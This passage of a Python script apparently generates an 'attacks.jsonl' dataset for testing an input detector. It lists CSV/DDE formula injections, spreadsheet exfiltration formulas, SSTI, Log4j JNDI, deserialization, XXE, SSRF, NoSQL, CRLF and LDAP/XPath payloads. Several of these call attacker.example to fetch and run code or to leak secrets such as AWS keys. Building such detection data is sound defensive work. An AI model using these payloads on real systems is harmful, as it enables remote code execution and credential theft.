    ("webhook-ipv6-unspecified", "http://[::]:9000/minio/admin/v3/info"),
    ("datasource-host-metadata", "169.254.169.254:80"),
    ("importxml-internal", '=IMPORTXML("http://10.0.0.12:8161/admin/queues.jsp", "//table")'),
    ("webhook-redirect-gopher", "https://r.attacker.example/302?u=gopher://127.0.0.1:25/_HELO%20x"),
    ("image-metadata-alias", '=IMAGE("http://instance-data/latest/meta-data/")'),
    ("webhook-azure-wireserver", "http://168.63.129.16/machine?comp=goalstate"),
    ("plain-metadata", "http://169.254.169.254/latest/meta-data/"),
    ("plain-localhost", "http://localhost/server-status"),
    ("plain-loopback", "http://127.0.0.1:22/"),
    ('plain-loopback', 'http://127.0.0.1/admin'),
    ('plain-metadata', 'http://metadata.google.internal/'),
]
SS_WRAPPERS = [
    ("importdata", '=IMPORTDATA("{u}")'),
    ("image", '=IMAGE("{u}")'),
    ("webcontents", '= Web.Contents("{u}")'),
    ("webhook", "{u}"),
]
SS_TARGETS = ["http://169.254.169.254/latest/meta-data/hostname", "http://127.0.0.1:5432/",
              "http://localhost:15672/api/users", "http://10.1.2.3:9090/api/v1/targets",
              "http://[::1]:6443/api", "http://2130706433:8080/"]


def tpl_ssrf(rng):
    tag, w = rng.choice(SS_WRAPPERS)
    u = rng.choice(SS_TARGETS)
    return f"{tag}-internal", w.format(u=u)


# --------------------------------------------------------------------------
CODE = [
    ("csvcell-dde", "=cmd|' /C calc'!A0"),
    ("csvcell-dde", "@SUM(1+1)*cmd|' /C powershell -w hidden iwr https://attacker.example/s.ps1|iex'!A0"),
    ("csvcell-dde", "+cmd|' /C mshta https://attacker.example/x.hta'!A1"),
    ("csvcell-dde", "-2+3+cmd|' /C notepad'!'B1'"),
    ("csvcell-hyperlink-exfil", '=HYPERLINK("https://attacker.example/c?d="&A2&B2, "Click to verify your invoice")'),
    ("csvcell-webservice-exfil", '=WEBSERVICE("https://attacker.example/x?d="&ENCODEURL(C2))'),
    ("csvcell-importxml-exfil", '=IMPORTXML(CONCAT("https://attacker.example/?v=", JOIN(",", A1:A50)), "//a")'),
    ("csvcell-image-exfil", '=IMAGE("https://attacker.example/p.png?"&Sheet1!B2)'),
    ("csvcell-dde+quoted", "\"=2+5+cmd|' /C calc'!A0\""),
    ("csvcell-xlm-call", '=CALL("Shell32","ShellExecuteA","JJJCCCJ",0,"open","cmd","/c calc",0,5)'),
    ("csvcell-dde-msexcel", r"=MSEXCEL|'\..\..\..\Windows\System32\cmd.exe /c calc'!A1"),
    ("csvcell-hyperlink+newline", 'Müller GmbH\n=HYPERLINK("http://203.0.113.44/?x="&A1,"Error: click to reload")'),
    ("csvcell-dde+semicolon-row", "North;=cmd|' /C whoami'!A0;1200"),
    ("title-ssti-jinja", "Revenue {{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("title-ssti-jinja", "{{ self._TemplateReference__context.joiner.__init__.__globals__.os.popen('cat /etc/passwd').read() }}"),
    ("note-ssti-jinja+hex-escape", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')() }}"),
    ("title-ssti-jinja-subclasses", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("sqllab-ssti-jinja", "SELECT '{{ lipsum.__globals__['os'].popen('curl -s attacker.example/j | sh').read() }}' AS x"),
    ("dbtmodel-ssti-jinja", "{{ config.__class__.__init__.__globals__['os'].system('id') }}"),
    ("title-ssti-twig", "{{['id']|filter('system')}}"),
    ("title-ssti-twig", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}"),
    ("title-ssti-freemarker", '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}'),
    ("title-ssti-velocity", '#set($rt=$x.class.forName("java.lang.Runtime"))#set($p=$rt.getRuntime().exec("id"))$p.waitFor()'),
    ("title-ssti-thymeleaf", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("note-ssti-erb", "<%= `id` %>"),
    ("note-ssti-erb", "<%= File.read('/etc/passwd') %>"),
    ("title-ssti-mako", "${__import__('os').popen('id').read()}"),
    ("title-ssti-smarty", "{if system('id')}{/if}"),
    ("title-ssti-pebble", '{{ variable.getClass().forName("java.lang.Runtime").getRuntime().exec("id") }}'),
    ("title-ssti-tornado", "{% import os %}{{ os.popen('id').read() }}"),
    ("title-ssti-django-leak", "{{ settings.SECRET_KEY }}"),
    ("title-ssti-nunjucks", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}"),
    ("title-ssti-groovy", '${"id".execute().text}'),
    ("filter-spel", "#{T(java.lang.Runtime).getRuntime().exec('curl https://attacker.example/s')}"),
    ("filter-el", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("param-ognl", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("note-log4j-jndi", "${jndi:ldap://attacker.example:1389/bi}"),
    ("title-log4j-jndi+nested-lower", "${${lower:j}${lower:n}${lower:d}i:${lower:l}dap://x.attacker.example/a}"),
    ("useragent-log4j-jndi+default-value", "${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.21:1099/o}"),
    ("filter-log4j-env-exfil", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/x}"),
    ("chartlabel-log4j-jndi", "Revenue ${jndi:ldaps://198.51.100.4/cn}"),
    ("note-log4j-jndi+env-default", "${jn${env:NOPE:-d}i:ldap://attacker.example/e}"),
    ("upload-yaml-python", "!!python/object/apply:os.system [\"curl -s https://attacker.example/y | sh\"]"),
    ("dashboardimport-yaml-python", "dashboard_title: Sales\nposition: !!python/object/new:subprocess.check_output [[\"id\"]]"),
    ("upload-pickle-proto0", "cos\nsystem\n(S'id'\ntR."),
    ("cookie-pickle+base64", "Y29zCnN5c3RlbQooUydpZCcKdFIu"),
    ("cookie-php-unserialize", 'a:2:{s:4:"user";s:5:"admin";s:7:"isAdmin";b:1;}'),
    ("cookie-php-object", 'O:10:"BiExporter":1:{s:4:"path";s:28:"/var/www/bi/public/shell.php";}'),
    ("import-jsonnet-type", '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35","MethodName":"Start","MethodParameters":{"$type":"System.Collections.ArrayList, mscorlib","$values":["cmd","/c calc"]},"ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}'),
    ("import-jackson-polymorphic", '["com.sun.rowset.JdbcRowSetImpl", {"dataSourceName": "ldap://attacker.example:1389/x", "autoCommit": true}]'),
    ("import-fastjson-autotype", '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://203.0.113.21:1099/x","autoCommit":true}'),
    ("upload-xxe-file", '<?xml version="1.0"?>\n<!DOCTYPE report [<!ENTITY f SYSTEM "file:///etc/passwd">]>\n<report><title>&f;</title></report>'),
    ("xlsx-xxe-oob", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!DOCTYPE x [<!ENTITY % r SYSTEM "https://attacker.example/x.dtd"> %r;]>\n<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="Sales" sheetId="1"/></sheets></workbook>'),
    ("odc-xxe-ssrf", '<!DOCTYPE c [<!ENTITY m SYSTEM "http://169.254.169.254/latest/meta-data/iam/security-credentials/">]><odc:OfficeDataConnection xmlns:odc="urn:schemas-microsoft-com:office:odc"><odc:Connection odc:Type="OLEDB"><odc:ConnectionString>&m;</odc:ConnectionString></odc:Connection></odc:OfficeDataConnection>'),
    ("chartxml-entity-expansion", '<!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;"><!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;">]><chart><title>&g;</title></chart>'),
    ("svgupload-xxe", '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY h SYSTEM "file:///etc/hostname">]><svg xmlns="http://www.w3.org/2000/svg"><text x="5" y="15">&h;</text></svg>'),
    ("reportxml-xinclude", '<kpi xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></kpi>'),
    ("filterjson-proto", '{"filters": {"region": "North"}, "__proto__": {"isAdmin": true}}'),
    ("filterjson-constructor-prototype", '{"constructor": {"prototype": {"shareAll": true}}}'),
    ("querystring-proto", "?f[__proto__][role]=admin&f[region]=EMEA"),
    ("chartoptions-proto-gadget", "{\"chart\": {\"type\": \"bar\"}, \"__proto__\": {\"outputFunctionName\": \"x;process.mainModule.require('child_process').execSync('id');x\"}}"),
    ("settingspath-proto", "settings.__proto__.allowExport=true"),
    ("calcengine-js-eval", "=1+this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id').toString()"),
    ("calcengine-python-eval", "__import__('os').popen('id').read()"),
    ("rscript-string-breakout", "x'); system('id'); print('"),
    ("calcengine-php-interpolation", '${system("id")}'),
    ("calcengine-ruby-interpolation", "#{`id`}"),
    ("plain-ssti", "{{config}}"),
    ("plain-log4j", "${jndi:ldap://attacker.example/a}"),
    ("plain-csv-dde", "=cmd|'/c calc'!A1"),
    ("plain-xxe", '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///c:/windows/win.ini">]><r>&x;</r>'),
    ("plain-proto", '{"__proto__":{"polluted":1}}'),
    ('plain-ssti', '${"freemarker.template.utility.Execute"?new()("whoami")}'),
    ('plain-csv-dde', "=1+1+cmd|' /C explorer'!A1"),
]
CO_LABELS = ["Revenue FY24", "Umsatz Q3", "Churn %", "Pipeline", "売上"]
CO_EXPRS = [
    ("ssti-jinja", "{{ cycler.__init__.__globals__.os.popen('cat /etc/hostname').read() }}"),
    ("ssti-jinja", "{{ lipsum.__globals__.os.popen('id').read() }}"),
    ("log4j-jndi", "${jndi:ldap://203.0.113.30:1389/t}"),
    ("ssti-freemarker", '${"freemarker.template.utility.Execute"?new()("id")}'),
    ("spel", "#{T(java.lang.Runtime).getRuntime().exec('id')}"),
]


def tpl_code(rng):
    label = rng.choice(CO_LABELS)
    tag, e = rng.choice(CO_EXPRS)
    if rng.random() < 0.3:
        return f"csvcell-hyperlink-exfil", f'=HYPERLINK("https://attacker.example/?q="&{rng.choice(["A1", "B2", "C3:C9", "Sheet2!A1"])}, "{label}")'
    return f"{rng.choice(['title', 'chartlabel', 'note'])}-{tag}", f"{label} {e}"


# --------------------------------------------------------------------------
NOSQLI = [
    ("filterjson-ne", '{"region": {"$ne": null}}'),
    ("login-ne", '{"username": "admin", "password": {"$ne": "x"}}'),
    ("login-gt", '{"username": {"$gt": ""}, "password": {"$gt": ""}}'),
    ("urlparam-regex", "?owner[$regex]=^a&owner[$options]=i"),
    ("urlparam-ne", "token[$ne]=1"),
    ("filterjson-where-time", '{"$where": "sleep(5000) || true"}'),
    ("filterjson-where-blind", "{\"$where\": \"this.role == 'admin' && this.password.match(/^a/)\"}"),
    ("where-string-breakout", "North'; return true; var x='"),
    ("filterjson-or-exists", '{"$or": [{"region": "North"}, {"region": {"$exists": true}}]}'),
    ("filterjson-in-tenant", '{"tenant_id": {"$in": [1, 2, 3, 4, 5, 6, 7, 8, 9, 10]}}'),
    ("filterjson-expr", '{"$expr": {"$gt": [{"$strLenCP": "$api_key"}, 0]}}'),
    ("filterjson-function", '{"$expr": {"$function": {"body": "function() { sleep(3000); return true; }", "args": [], "lang": "js"}}}'),
    ("pipeline-lookup", '[{"$lookup": {"from": "users", "localField": "owner_id", "foreignField": "_id", "as": "u"}}, {"$project": {"u.password_hash": 1, "u.email": 1}}]'),
    ("pipeline-merge", '[{"$project": {"_id": "$owner_id", "role": "admin"}}, {"$merge": {"into": "users", "on": "_id", "whenMatched": "merge"}}]'),
    ("filterjson-regex-blind", '{"api_key": {"$regex": "^sk_live_a"}}'),
    ("search-lucene", "North OR _exists_:password_hash"),
    ("couchdb-selector", '{"selector": {"_id": {"$gt": null}}, "fields": ["_id", "password"]}'),
    ("filterjson-where+unicode-escape", '{"$where": "\\u0073leep(4000)"}'),
    ("urlparam-gt+urlenc", "user%5B%24gt%5D=&pass%5B%24gt%5D="),
    ("urlparam-where", "filter[$where]=sleep(3000)"),
    ("plain-ne", '{"$ne": 1}'),
    ("plain-regex", '{"$regex": ".*"}'),
    ('plain-gt', '{"$gt": ""}'),
]
NO_FIELDS = ["region", "owner", "dashboard_id", "share_token", "workspace"]
NO_OPS = [("ne", '{{"{f}": {{"$ne": ""}}}}'), ("gt", '{{"{f}": {{"$gt": null}}}}'),
          ("regex", '{{"{f}": {{"$regex": "^."}}}}'), ("urlparam-ne", "{f}[$ne]=x")]


def tpl_nosqli(rng):
    f = rng.choice(NO_FIELDS)
    tag, t = rng.choice(NO_OPS)
    if tag.startswith("urlparam"):
        return tag, t.format(f=f)
    return f"filterjson-{tag}", t.format(f=f)


# --------------------------------------------------------------------------
CRLF = [
    ("log-forge", "North\r\n2024-05-14 09:12:44 INFO auth: user=admin action=grant_role role=superuser status=OK"),
    ("log-forge-lf", "Q3 report\n[2024-05-14T09:13:01Z] AUDIT export approved by cfo@company.example"),
    ("header-setcookie", "report.csv\r\nSet-Cookie: bi_session=FAKE-0000; Path=/; HttpOnly"),
    ("header-contentdisposition-body", "kpi.xlsx\"\r\nContent-Type: text/html\r\n\r\n<script>alert(document.domain)</script>"),
    ("header-location+urlenc", "/dashboards/12%0d%0aLocation:%20https://attacker.example/login"),
    ("header-response-split+urlenc", "en-US%0D%0AContent-Length:%200%0D%0A%0D%0AHTTP/1.1%20200%20OK%0D%0AContent-Type:%20text/html%0D%0A%0D%0A%3Chtml%3Eowned%3C/html%3E"),
    ("mail-bcc", "Weekly KPI digest\r\nBcc: dump@attacker.example"),
    ("mail-cc-lf", "Sales review\nCc: copy@attacker.example"),
    ("mail-smtp-data", "Q2 numbers\r\n.\r\nMAIL FROM:<cfo@company.example>\r\nRCPT TO:<victim@company.example>\r\nDATA\r\nSubject: Urgent wire transfer\r\n\r\nPlease pay invoice 4711 today.\r\n.\r\n"),
    ("mail-to-header", "analyst@company.example\r\nTo: all-staff@company.example"),
    ("mail-content-type", "Board pack\r\nContent-Type: text/html\r\n\r\n<a href=\"https://attacker.example/sso\">Re-authenticate</a>"),
    ("upstream-header-xff", "EMEA\r\nX-Forwarded-For: 127.0.0.1"),
    ("upstream-header-authorization", "sales\r\nAuthorization: Basic RkFLRTpGQUtF"),
    ("log-forge+urlenc", "North%0d%0a2024-05-14%2010:00:00%20INFO%20login%20ok%20user=root"),
    ("log-forge+double-urlenc", "North%250d%250aINFO%20password%20changed%20for%20admin"),
    ("header-setcookie+unicode-truncation", "report\u560d\u560aSet-Cookie: a=b"),
    ("log-forge-cr", "Umsatz\r2024-05-14 INFO job=nightly_refresh status=SUCCESS"),
    ("syslog-forge", "chart-title\n<13>May 14 09:20:00 bi-app sshd[4242]: Accepted password for root from 10.0.0.1 port 50122"),
    ("csvauditlog-row", "North\r\n2024-05-14,admin,DELETE_DASHBOARD,ok"),
    ("jsonlog-forge", 'x"}\n{"ts":"2024-05-14T09:00:00Z","level":"INFO","user":"admin","msg":"mfa disabled"}'),
    ("upstream-header-te", "north\r\nTransfer-Encoding: chunked"),
    ("cachekey-redis-protocol", "dash_12\r\nCONFIG SET dir /tmp\r\n"),
    ("cachekey-memcached-protocol", "dash_12\r\nset admin_flag 0 0 1\r\n1\r\n"),
    ("mail-subject-multiline-de", "Monatsbericht März\r\nReply-To: finanzen@attacker.example\r\nX-Priority: 1"),
    ("plain-crlf+urlenc", "%0d%0aSet-Cookie:x=1"),
    ("plain-lf", "\nX-Injected: 1"),
    ("plain-crlf", "\r\nLocation: https://attacker.example/"),
]
CR_PREFIX = ["North", "Weekly KPIs", "kpi.csv", "Umsatz Q3", "dashboards/7"]
CR_LINES = [("log-forge", "INFO user=admin action=export_all status=OK"),
            ("header-setcookie", "Set-Cookie: role=admin"),
            ("mail-bcc", "Bcc: leak@attacker.example")]


def tpl_crlf(rng):
    p = rng.choice(CR_PREFIX)
    tag, line = rng.choice(CR_LINES)
    if rng.random() < 0.5:
        return f"{tag}+urlenc", urllib.parse.quote(f"{p}\r\n{line}", safe="/:=")
    return tag, f"{p}\r\n{line}"


# --------------------------------------------------------------------------
LDAPX = [
    ("ldap-user-wildcard", "*"),
    ("ldap-user-or", "*)(|(uid=*"),
    ("ldap-auth-bypass", "admin)(&)"),
    ("ldap-attr-blind", "analyst*)(userPassword=a*"),
    ("ldap-group-or", "bi-readers)(|(cn=Domain Admins)"),
    ("ldap-objectclass", "x)(objectClass=*))(|(objectClass=*"),
    ("ldap-memberof", "*)(memberOf=CN=Finance-Admins,OU=Groups,DC=corp,DC=example"),
    ("ldap-auth-bypass+nullbyte", "admin)%00"),
    ("ldap-description-search", "*)(description=*password*"),
    ("ldap-user-or+urlenc", "%2A%29%28%7C%28objectClass%3D%2A"),
    ("xpath-auth-bypass", "' or '1'='1"),
    ("xpath-union", "North'] | //user/password | //region[name='"),
    ("xpath-blind-substring", "x' or substring(//user[1]/password,1,1)='a' or 'a'='b"),
    ("xpath-blind-count", "x' or count(//user[role='admin'])=1 and 'a'='a"),
    ("xpath-doc-file", "'] | doc('file:///etc/passwd') | //x['"),
    ("xpath-name-enum", "x' or name(/*[1])='reports' or 'a'='b"),
    ("xpath-numeric-tautology", "1 or 1=1"),
    ("xpath-auth-bypass-doublequote", "x\" or \"1\"=\"1"),
    ('plain-ldap-or', '*)(|(objectclass=*)'),
]
LD_USERS = ["j.doe", "m.mueller", "analyst", "svc_tableau", "a.tanaka"]
LD_SUFFIX = [("ldap-attr-blind", "*)(userPassword={c}*"), ("ldap-user-or", ")(|(cn={c}*")]


def tpl_ldap(rng):
    u = rng.choice(LD_USERS)
    tag, s = rng.choice(LD_SUFFIX)
    return tag, u + s.format(c=rng.choice("abcdefghij"))


CATEGORIES = [
    ("sqli", SQLI, tpl_sqli),
    ("xss", XSS, tpl_xss),
    ("cmdi", CMDI, tpl_cmdi),
    ("traversal", TRAVERSAL, tpl_traversal),
    ("ssrf", SSRF, tpl_ssrf),
    ("code", CODE, tpl_code),
    ("nosqli", NOSQLI, tpl_nosqli),
    ("crlf", CRLF, tpl_crlf),
    ("ldap-xpath", LDAPX, tpl_ldap),
]


def build(rng):
    rows = []
    seen = set()
    stats = []
    for cat, literals, tpl in CATEGORIES:
        target = TARGETS[cat]
        items = []
        for cls, v in literals:
            if v in seen:
                raise SystemExit(f"duplicate literal in {cat}: {v!r}")
            seen.add(v)
            items.append((cls, v))
        items = items[:target]
        n_lit = len(items)
        tries = 0
        while len(items) < target:
            tries += 1
            if tries > 10000:
                raise SystemExit(f"template for {cat} exhausted")
            cls, v = tpl(rng)
            if v in seen:
                continue
            seen.add(v)
            items.append((cls, v))
        stats.append((cat, len(items), n_lit))
        for cls, v in items:
            rows.append({"category": cat, "class": cls, "value": v})
    return rows, stats


def main():
    rng = random.Random(SEED)
    rows, stats = build(rng)
    out = []
    for i, r in enumerate(rows, 1):
        v = r["value"]
        assert isinstance(v, str) and v and len(v) <= 1800, v
        out.append({"id": f"{PREFIX}-{i:05d}", "category": r["category"], "class": r["class"],
                    "label": "attack", "value": v})
    assert len({o["value"] for o in out}) == len(out)
    benign = Path(__file__).with_name("benign.jsonl")
    if benign.exists():
        with open(benign, encoding="utf-8") as fh:
            bvals = {json.loads(line)["value"] for line in fh if line.strip()}
        clash = [o["value"] for o in out if o["value"] in bvals]
        if clash:
            raise SystemExit(f"values present in both files: {clash[:5]!r}")
    path = Path(__file__).with_name("attacks.jsonl")
    with open(path, "w", encoding="utf-8", newline="\n") as fh:
        for o in out:
            fh.write(json.dumps(o, ensure_ascii=False) + "\n")
    total_lit = 0
    for cat, n, lit in stats:
        total_lit += lit
        print(f"{cat:12s} {n:4d}  literals {lit:3d} ({100 * lit / n:.0f}%)")
    print(f"{'total':12s} {len(out):4d}  literals {total_lit:3d} ({100 * total_lit / len(out):.0f}%)")


if __name__ == "__main__":
    main()
